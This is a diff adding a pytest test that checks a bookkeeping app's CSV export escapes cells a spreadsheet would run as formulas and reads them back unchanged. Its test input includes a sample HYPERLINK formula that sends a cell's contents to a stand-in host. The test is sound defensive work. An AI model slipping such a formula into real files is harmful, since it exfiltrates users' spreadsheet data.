@@ -157,3 +157,26 @@ def test_import_reports_exercice_problems_with_their_line(books):
     assert messages[0].startswith("ligne 2 (pièce R01) : la date 12/09/2024 est hors de l'exercice 2025-2026")
     assert any(m.startswith("ligne 4 (pièce R02) : ventilation ligne 1 : le compte 6281") for m in messages)
     assert books.entries(COOP, EX) == []
+
+
+def test_text_that_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(books):
+    """CSV injection: a libellé or tiers starting with = + - @ is written with the
+    spreadsheets' text mark (a leading apostrophe) and read back exactly as typed."""
+    from retkoop_widgets.io.cahier_csv import export_cahier
+    typed = {"libelle": '=HYPERLINK("http://x.example/?"&A1;"Facture")', "tiers": "@Mairie"}
+    books.record_entry(COOP, EX, EntryDraft(date(2025, 10, 3), typed["libelle"], tiers=typed["tiers"],
+                                            mode="chèque", cheque="4521001", bank_out=17450,
+                                            ventilation=(V("6281", 17450, "-5 % remise"),)))
+    books.record_entry(COOP, EX, EntryDraft(date(2025, 10, 4), "'Les Amis' (apostrophes gardées)",
+                                            tiers="'=déjà marqué", mode="espèces", cash_in=1000,
+                                            ventilation=(V("7560", 1000),)))
+    text = export_cahier(books.entries(COOP, EX), books.chart(COOP))
+    assert "'=HYPERLINK" in text and ";'@Mairie;" in text and "'-5 % remise" in text
+    assert ";''=déjà marqué;" in text and ";'Les Amis' (apostrophes gardées);" in text
+    import csv
+    cells = [c for row in csv.reader(text.lstrip("\ufeff").splitlines(), delimiter=";") for c in row if c]
+    assert not [c for c in cells if c[0] in "=+-@"]  # no cell of the file starts a formula
+    again = [d for _, d in parse_cahier(text, books.chart(COOP))]
+    assert (again[0].libelle, again[0].tiers, again[0].ventilation[0].action) == \
+        (typed["libelle"], typed["tiers"], "-5 % remise")
+    assert (again[1].libelle, again[1].tiers) == ("'Les Amis' (apostrophes gardées)", "'=déjà marqué")
